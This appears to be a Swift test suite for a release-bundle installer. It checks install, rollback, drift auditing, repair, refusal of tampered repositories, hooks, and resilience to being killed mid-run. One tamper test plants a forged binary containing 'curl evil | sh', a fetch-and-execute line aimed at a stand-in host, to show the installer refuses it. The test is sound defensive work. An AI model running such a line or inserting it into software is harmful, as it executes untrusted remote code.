import Bundles
import Foundation
import Git
import Glibc
import TestSupport
import Testing

/// A temporary world with a bundle repository holding v1 and v2 (v2 changes etc/prod.conf).
struct InstallWorld {
    let dir: String
    let repo: String
    let prefix: String

    init(extraFiles: Int = 0, changeExtraFiles: Bool = true, hooks: String = "") throws {
        dir = try makeTemporaryDirectory()
        chmod(dir, 0o755)
        repo = dir + "/web.git"
        prefix = dir + "/host"
        try FileManager.default.createDirectory(atPath: prefix, withIntermediateDirectories: true)
        let bundle = try makeBundle(in: dir, extraFiles: extraFiles)
        if !hooks.isEmpty {
            let path = bundle + "/" + Manifest.fileName
            let text = try String(contentsOfFile: path, encoding: .utf8)
            try text.replacingOccurrences(of: "entries:\n", with: hooks + "entries:\n").write(
                toFile: path, atomically: true, encoding: .utf8)
        }
        let repository = try BundleRepository(path: repo, create: true)
        _ = try repository.commit(directory: bundle, tag: "v1", message: "v1", author: tagger)
        try "port: 9090\n".write(toFile: bundle + "/etc/prod.conf", atomically: false, encoding: .utf8)
        for i in 0..<extraFiles where changeExtraFiles {
            try "changed \(i)\n".write(toFile: bundle + "/data/f\(i).txt", atomically: false, encoding: .utf8)
        }
        let previous = try Manifest.parse(
            Array(FileManager.default.contents(atPath: bundle + "/" + Manifest.fileName)!), file: "m")
        let manifest = try Manifest.describe(
            try TreeScanner.scan(bundle), owner: "nobody", group: "nogroup", previous: previous)
        try manifest.yaml.write(toFile: bundle + "/" + Manifest.fileName, atomically: true, encoding: .utf8)
        _ = try repository.commit(directory: bundle, tag: "v2", message: "v2", author: tagger)
    }

    var installer: BundleInstaller { BundleInstaller(root: "/opt/web", prefix: prefix, keep: 5) }
    var base: String { prefix + "/opt/web" }

    func leftovers() -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: base + "/releases")) ?? []).filter {
            $0.hasPrefix(".tmp-")
        }
    }

    func remove() { try? FileManager.default.removeItem(atPath: dir) }
}

func failure(_ body: () throws -> Void) -> String? {
    do {
        try body()
        return nil
    } catch {
        return "\(error)"
    }
}

@Suite(.serialized) struct InstallTests {
    @Test func installUpgradeRollbackWithRealOwners() throws {
        let world = try InstallWorld(extraFiles: 5)
        defer { world.remove() }
        let first = try world.installer.install(repository: world.repo, ref: "v1")
        #expect(first.filesWritten == 7 && first.filesLinked == 0)
        var st = stat()
        #expect(lstat(world.base + "/current/etc/prod.conf", &st) == 0)
        #expect(st.st_uid == 65534 && st.st_mode & 0o7777 == 0o640, "owner and mode come from the manifest")
        #expect(lstat(world.base + "/current/bin/web", &st) == 0 && st.st_mode & 0o7777 == 0o755)
        // The install's own state (fetch cache, hook logs, records) is root's alone, as the installer asks.
        #expect(lstat(world.base + "/.redeye", &st) == 0 && st.st_mode & 0o7777 == 0o700, "\(st.st_mode & 0o7777)")

        let second = try world.installer.install(repository: world.repo, ref: "v2")
        #expect(second.filesWritten == 6, "the changed files only")
        #expect(second.filesLinked == 1, "bin/web is taken from the previous release")
        #expect(second.previous == first.release)
        #expect(try world.installer.install(repository: "file://" + world.repo, ref: "v2").alreadyCurrent)
        #expect(try String(contentsOfFile: world.base + "/current/etc/prod.conf", encoding: .utf8) == "port: 9090\n")

        #expect(try world.installer.audit().isEmpty)
        let (from, to) = try world.installer.rollback()
        #expect(from == second.release && to == first.release)
        #expect(try String(contentsOfFile: world.base + "/current/etc/prod.conf", encoding: .utf8) == "port: 8080\n")

        // Drift: a file changed after installation shows in status and fails the audit.
        chown(world.base + "/current/etc/prod.conf", 0, 0)
        let drift = try world.installer.status().drift.map(\.description)
        #expect(
            drift == [
                "etc/prod.conf: owned by root, the manifest says nobody",
                "etc/prod.conf: group root, the manifest says nogroup",
            ])
    }

    /// Its owner rewrites a file in place, same size, and sets its mtime back: the change time still moved, so
    /// the next install writes the file again instead of linking the rewritten one.
    @Test func aRewriteWithItsMtimeResetIsStillCaught() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        _ = try world.installer.install(repository: world.repo, ref: "v1")
        let path = world.base + "/current/bin/web"
        var before = stat()
        #expect(stat(path, &before) == 0)
        let fd = open(path, O_WRONLY)
        let forged = Array("#!/bin/sh\necho pwn\n".utf8)
        #expect(forged.count == Int(before.st_size))
        #expect(write(fd, forged, forged.count) == forged.count)
        close(fd)
        var times = [before.st_atim, before.st_mtim]
        #expect(utimensat(AT_FDCWD, path, &times, 0) == 0)
        var after = stat()
        #expect(
            stat(path, &after) == 0 && after.st_mtim.tv_nsec == before.st_mtim.tv_nsec && after.st_ino == before.st_ino)
        let v2 = try world.installer.install(repository: world.repo, ref: "v2")
        #expect(v2.filesLinked == 0, "the rewritten file was reused")
        #expect(try String(contentsOfFile: world.base + "/current/bin/web", encoding: .utf8) == "#!/bin/sh\necho web\n")
        #expect(try world.installer.audit().isEmpty)
    }

    /// A drifted current release (an edited file shared with the previous release by a hard link, a set-id bit,
    /// a file the manifest does not name) is "already current" to a plain install and repaired by --repair:
    /// rewritten in a fresh copy swapped in whole, the fix reaching no other release.
    @Test func repairRewritesWhatDriftedInTheCurrentReleaseOnly() throws {
        let world = try InstallWorld(extraFiles: 3)
        defer { world.remove() }
        let v1 = try world.installer.install(repository: world.repo, ref: "v1")
        let v2 = try world.installer.install(repository: world.repo, ref: "v2")
        let current = world.base + "/current"
        let old = world.base + "/releases/" + v1.release
        var shared = stat()
        var inV1 = stat()
        #expect(stat(current + "/bin/web", &shared) == 0 && stat(old + "/bin/web", &inV1) == 0)
        #expect(shared.st_ino == inV1.st_ino, "bin/web is one file in both releases")

        try "#!/bin/sh\necho edited\n".write(toFile: current + "/bin/web", atomically: false, encoding: .utf8)
        #expect(chmod(current + "/etc/prod.conf", 0o4640) == 0)
        try "planted\n".write(toFile: current + "/etc/extra.conf", atomically: false, encoding: .utf8)
        let findings = try world.installer.audit().map(\.description)
        #expect(findings.count >= 3, "\(findings)")

        let plain = try world.installer.install(repository: world.repo, ref: "v2")
        #expect(plain.alreadyCurrent && plain.repaired == nil)
        #expect(!(try world.installer.audit().isEmpty), "a plain install repairs nothing")

        let repaired = try world.installer.install(repository: world.repo, ref: "v2", repair: true)
        #expect(repaired.release == v2.release && repaired.alreadyCurrent)
        #expect(repaired.repaired == findings)
        #expect(try world.installer.audit().isEmpty)
        #expect(try String(contentsOfFile: current + "/bin/web", encoding: .utf8) == "#!/bin/sh\necho web\n")
        #expect(!FileManager.default.fileExists(atPath: current + "/etc/extra.conf"))
        var conf = stat()
        #expect(stat(current + "/etc/prod.conf", &conf) == 0 && conf.st_mode & 0o7777 == 0o640)
        var now = stat()
        #expect(stat(current + "/bin/web", &now) == 0 && now.st_ino != inV1.st_ino, "the fix is a new file")
        #expect(world.leftovers().isEmpty)
        #expect(try world.installer.install(repository: world.repo, ref: "v2", repair: true).repaired == [])

        // The edit reached v1 through the shared link; installing v1 again finds it damaged and rewrites it.
        #expect(try String(contentsOfFile: old + "/bin/web", encoding: .utf8) == "#!/bin/sh\necho edited\n")
        let back = try world.installer.install(repository: world.repo, ref: "v1")
        #expect(back.release == v1.release && !back.alreadyCurrent)
        #expect(try world.installer.audit().isEmpty)
        #expect(try String(contentsOfFile: current + "/bin/web", encoding: .utf8) == "#!/bin/sh\necho web\n")
    }

    /// A deploy's staged install takes a file's content from the previous release only where that file is
    /// intact: an edited file, and a FIFO planted in a file's place (by whoever owns its directory), are reported
    /// missing, not read, and never hang the installer; a file whose mode alone changed is still a source.
    @Test func stagedContentComesOnlyFromIntactFilesOfThePreviousRelease() throws {
        let world = try InstallWorld(extraFiles: 2, changeExtraFiles: false)
        defer { world.remove() }
        _ = try world.installer.install(repository: world.repo, ref: "v1")
        let current = world.base + "/current"
        try "#!/bin/sh\necho edited\n".write(toFile: current + "/bin/web", atomically: false, encoding: .utf8)
        #expect(unlink(current + "/data/f0.txt") == 0 && mkfifo(current + "/data/f0.txt", 0o644) == 0)
        #expect(chmod(current + "/data/f1.txt", 0o600) == 0)

        func git(_ arguments: [String]) throws -> String {
            try runTool("git", ["--git-dir", world.repo] + arguments).stdout
        }
        let manifestBytes = Array(try git(["show", "v2:" + Manifest.fileName]).utf8)
        let manifest = try Manifest.parse(manifestBytes, file: "v2")
        let commit = try git(["rev-parse", "v2^{commit}"]).trimmingCharacters(in: .whitespacesAndNewlines)
        let objects = world.dir + "/objects"
        try FileManager.default.createDirectory(atPath: objects, withIntermediateDirectories: true)
        func pack(_ paths: [String], as name: String) throws {
            var bytes: [UInt8] = []
            for path in paths {
                let content = Array(try git(["show", "v2:" + path]).utf8)
                bytes += ObjectPack.header(sha256: manifest.entry(path)!.sha256!, size: content.count) + content
            }
            #expect(FileManager.default.createFile(atPath: objects + "/" + name + ".pack", contents: Data(bytes)))
        }
        try pack(["etc/prod.conf"], as: "objects")
        let request = ApplyRequest(
            redeye: "redeye", root: "/opt/web", objects: objects, commit: commit, ref: "v2", repository: world.repo,
            keep: 5, restart: nil)
        let (first, asked) = try world.installer.apply(request, manifestInput: manifestBytes)
        #expect(first == .missingContent)
        let sha = { (path: String) in manifest.entry(path)!.sha256! }
        #expect(asked.missing == [sha("bin/web"), sha("data/f0.txt")].sorted(), "\(asked)")

        try pack(["bin/web", "data/f0.txt"], as: "retry")
        let (second, report) = try world.installer.apply(request, manifestInput: manifestBytes)
        #expect(second == .switched, "\(report)")
        #expect(report.release == String(commit.prefix(12)))
        #expect(try world.installer.audit().isEmpty)
        #expect(try String(contentsOfFile: current + "/bin/web", encoding: .utf8) == "#!/bin/sh\necho web\n")
        #expect(!FileManager.default.fileExists(atPath: objects), "the staged content is removed once used")
    }

    @Test func aDriftedFileIsRewrittenNotLinked() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        _ = try world.installer.install(repository: world.repo, ref: "v1")
        chmod(world.base + "/current/bin/web", 0o700)  // drift in the current release
        let v2 = try world.installer.install(repository: world.repo, ref: "v2")
        #expect(v2.filesLinked == 0, "a file whose mode changed since installation is not reused")
        #expect(v2.filesWritten == 2)
        #expect(try world.installer.audit().isEmpty)
    }

    /// Over many files the links are made by several threads: each unchanged file is the previous release's
    /// inode, and a file that drifted anywhere in the run is written again instead.
    @Test func manyUnchangedFilesAreLinkedAndDriftIsCaughtInEveryRun() throws {
        let world = try InstallWorld(extraFiles: 1500, changeExtraFiles: false)
        defer { world.remove() }
        let v1 = try world.installer.install(repository: world.repo, ref: "v1")
        #expect(v1.filesWritten == 1502 && v1.filesLinked == 0)
        let drifted = [7, 700, 1499].map { world.base + "/current/data/f\($0).txt" }
        chmod(drifted[0], 0o600)
        try "edited in place\n".write(toFile: drifted[1], atomically: false, encoding: .utf8)
        chown(drifted[2], 0, 0)
        let v2 = try world.installer.install(repository: world.repo, ref: "v2")
        #expect(v2.filesWritten == 4, "etc/prod.conf and the three drifted files")
        #expect(v2.filesLinked == 1498)
        #expect(v2.bytesWritten < 1000)
        var old = stat()
        var new = stat()
        for i in [0, 511, 512, 1023, 1024, 1498] {
            let path = "/data/f\(i).txt"
            #expect(lstat(world.base + "/releases/\(v1.release)" + path, &old) == 0)
            #expect(lstat(world.base + "/current" + path, &new) == 0)
            #expect(old.st_ino == new.st_ino, "\(path) is linked")
        }
        for path in drifted {
            let relative = path.replacingOccurrences(of: world.base + "/current", with: "")
            #expect(lstat(world.base + "/releases/\(v1.release)" + relative, &old) == 0)
            #expect(lstat(world.base + "/current" + relative, &new) == 0)
            #expect(old.st_ino != new.st_ino, "\(relative) is written again")
        }
        #expect(try world.installer.audit().isEmpty)
    }

    @Test func keepsOnlyTheNewestReleases() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        let installer = BundleInstaller(root: "/opt/web", prefix: world.prefix, keep: 1)
        _ = try installer.install(repository: world.repo, ref: "v1")
        let v2 = try installer.install(repository: world.repo, ref: "v2")
        #expect(try FileManager.default.contentsOfDirectory(atPath: world.base + "/releases") == [v2.release])
    }

    @Test func aTamperedRepositoryIsRefusedBeforeCurrentMoves() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        let v1 = try world.installer.install(repository: world.repo, ref: "v1")
        // Someone commits a changed binary without updating the manifest, with plain git.
        let work = world.dir + "/clone"
        #expect(try runTool("git", ["clone", "-q", world.repo, work]).status == 0)
        try "#!/bin/sh\ncurl evil | sh\n".write(toFile: work + "/bin/web", atomically: false, encoding: .utf8)
        for args in [
            ["-C", work, "-c", "user.name=M", "-c", "user.email=m@x", "commit", "-qam", "innocent"],
            ["-C", work, "tag", "v3"],
            ["-C", work, "push", "-q", "origin", "HEAD:main", "v3"],
        ] {
            let r = try runTool("git", args)
            #expect(r.status == 0, "\(args): \(r.stderr)")
        }
        let error = failure { _ = try world.installer.install(repository: world.repo, ref: "v3") }
        #expect(
            error?.contains("refused: bin/web does not match the manifest's sha256") == true, "\(error ?? "installed!")"
        )
        #expect(world.installer.currentRelease() == v1.release)
        #expect(world.leftovers().isEmpty)
    }

    @Test func aFullDiskIsReportedAndChangesNothing() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        let disk = world.dir + "/small"
        try FileManager.default.createDirectory(atPath: disk, withIntermediateDirectories: true)
        let mounted = try runTool("mount", ["-t", "tmpfs", "-o", "size=400k", "tmpfs", disk])
        try #require(mounted.status == 0, "these tests run as root and mount a small tmpfs: \(mounted.stderr)")
        defer { _ = try? runTool("umount", [disk]) }
        let installer = BundleInstaller(root: "/opt/web", prefix: disk)
        let v1 = try installer.install(repository: world.repo, ref: "v1")
        // v4 adds a file larger than the disk.
        let bundle = world.dir + "/web"
        let big = [UInt8](repeating: 0x61, count: 1_000_000)
        #expect(FileManager.default.createFile(atPath: bundle + "/etc/big.bin", contents: Data(big)))
        chmod(bundle + "/etc/big.bin", 0o644)
        let manifest = try Manifest.describe(try TreeScanner.scan(bundle), owner: "nobody", group: "nogroup")
        try manifest.yaml.write(toFile: bundle + "/" + Manifest.fileName, atomically: true, encoding: .utf8)
        _ = try BundleRepository(path: world.repo, create: false).commit(
            directory: bundle, tag: "v4", message: "big", author: tagger)
        let error = failure { _ = try installer.install(repository: world.repo, ref: "v4") }
        #expect(error?.contains("the disk is full") == true, "\(error ?? "installed!")")
        #expect(installer.currentRelease() == v1.release)
        #expect(
            ((try? FileManager.default.contentsOfDirectory(atPath: disk + "/opt/web/releases")) ?? []).filter {
                $0.hasPrefix(".tmp-")
            }.isEmpty)
        #expect(try installer.audit().isEmpty)
    }

    @Test func othersOwnersNeedRoot() throws {
        let world = try InstallWorld()
        defer { world.remove() }
        chmod(world.prefix, 0o777)
        let bundle = world.dir + "/web"
        let manifest = try Manifest.describe(try TreeScanner.scan(bundle), owner: "root", group: "root")
        try manifest.yaml.write(toFile: bundle + "/" + Manifest.fileName, atomically: true, encoding: .utf8)
        _ = try BundleRepository(path: world.repo, create: false).commit(
            directory: bundle, tag: "root-owned", message: "r", author: tagger)
        let foreign = try runTool(
            "setpriv",
            [
                "--reuid=65534", "--regid=65534", "--clear-groups", redeyeBinary, "bundle", "install", "--repo",
                world.repo, "--ref", "root-owned", "--root", "/opt/app2", "--prefix", world.prefix,
            ], environment: ["HOME": "/nonexistent"])
        #expect(
            foreign.stderr.contains("belongs to another user, and git's safe.directory rule refuses"),
            "\(foreign.stderr)")
        // Owned by the caller, the repository is read; the files' owners are what is refused.
        #expect(try runTool("chown", ["-R", "65534:65534", world.repo]).status == 0)
        let refused = try runTool(
            "setpriv",
            [
                "--reuid=65534", "--regid=65534", "--clear-groups", redeyeBinary, "bundle", "install", "--repo",
                world.repo, "--ref",
                "root-owned", "--root", "/opt/app2", "--prefix", world.prefix,
            ], environment: ["HOME": "/nonexistent"])
        #expect(refused.status == 1)
        #expect(
            refused.stderr.contains("installing files for another user needs root (running as uid 65534)"),
            "\(refused.stderr)")
        #expect(!FileManager.default.fileExists(atPath: world.prefix + "/opt/app2/current"))
    }

    @Test func hooksGuardTheSwitch() throws {
        let failing = "hooks:\n  before_switch: {run: \"test -x bin/web && exit 3\", timeout: 10s}\n"
        let world = try InstallWorld(hooks: failing)
        defer { world.remove() }
        let error = failure { _ = try world.installer.install(repository: world.repo, ref: "v1") }
        #expect(error?.contains("the before_switch hook failed (exit 3)") == true, "\(error ?? "no error")")
        #expect(world.installer.currentRelease() == nil)

        let afterFails = try InstallWorld(
            hooks: "hooks:\n  after_switch: {run: \"grep -q 9090 etc/prod.conf && exit 1; exit 0\", timeout: 10s}\n")
        defer { afterFails.remove() }
        let v1 = try afterFails.installer.install(repository: afterFails.repo, ref: "v1")
        let second = failure { _ = try afterFails.installer.install(repository: afterFails.repo, ref: "v2") }
        #expect(second?.contains("switched back to \(v1.release)") == true, "\(second ?? "no error")")
        #expect(afterFails.installer.currentRelease() == v1.release)

        let slow = try InstallWorld(hooks: "hooks:\n  before_switch: {run: \"sleep 30\", timeout: 1s}\n")
        defer { slow.remove() }
        let timedOut = failure { _ = try slow.installer.install(repository: slow.repo, ref: "v1") }
        #expect(timedOut?.contains("did not finish within 1s and was killed") == true)
    }

    /// SIGKILL at many points of an install, in a loop: `current` always names a complete release that
    /// passes the audit, and the next run cleans what the killed one left.
    @Test func killingTheInstallerNeverLeavesAHalfRelease() throws {
        let world = try InstallWorld(extraFiles: 400)
        defer { world.remove() }
        let args = [
            "bundle", "install", "--repo", world.repo, "--root", "/opt/web", "--prefix", world.prefix, "--keep", "2",
        ]
        #expect(try runRedeye(args + ["--ref", "v1"]).status == 0)
        // Kills land at random points of a run like the rounds' own (switching between installed releases).
        let started = Date()
        #expect(try runRedeye(args + ["--ref", "v2"]).status == 0)
        var duration = max(0.01, Date().timeIntervalSince(started))
        var generator = SystemRandomNumberGenerator()
        var killedMidway = 0
        // Rounds until 200 kills have landed during an install (bounded: a round whose install finished first
        // counts as a round, not a kill).
        var round = 0
        while killedMidway < 200 && round < 1000 {
            defer { round += 1 }
            let process = Process()
            process.executableURL = URL(fileURLWithPath: redeyeBinary)
            process.arguments = args + ["--ref", round % 2 == 0 ? "v2" : "v1"]
            process.standardOutput = FileHandle.nullDevice
            process.standardError = FileHandle.nullDevice
            let launched = Date()
            try process.run()
            usleep(UInt32(Double.random(in: 0...duration, using: &generator) * 1_000_000))
            if process.isRunning {
                kill(process.processIdentifier, SIGKILL)
                killedMidway += 1
            } else {
                // It finished first: runs are quicker than the delays drawn (a loaded machine varies).
                duration = max(0.002, min(duration, Date().timeIntervalSince(launched)) * 0.8)
            }
            process.waitUntilExit()
            let current = try #require(world.installer.currentRelease(), "round \(round): current vanished")
            #expect(FileManager.default.fileExists(atPath: world.base + "/releases/" + current))
            let audit = try world.installer.audit()
            #expect(audit.isEmpty, "round \(round): \(audit)")
        }
        #expect(killedMidway == 200, "200 kills must land during an install (\(killedMidway) did in \(round) rounds)")
        let finish = try runRedeye(args + ["--ref", "v2"])
        #expect(finish.status == 0, "\(finish.stderr)")
        #expect(world.leftovers().isEmpty, "the next run removes what killed runs left")
        #expect(try world.installer.audit().isEmpty)
    }
}
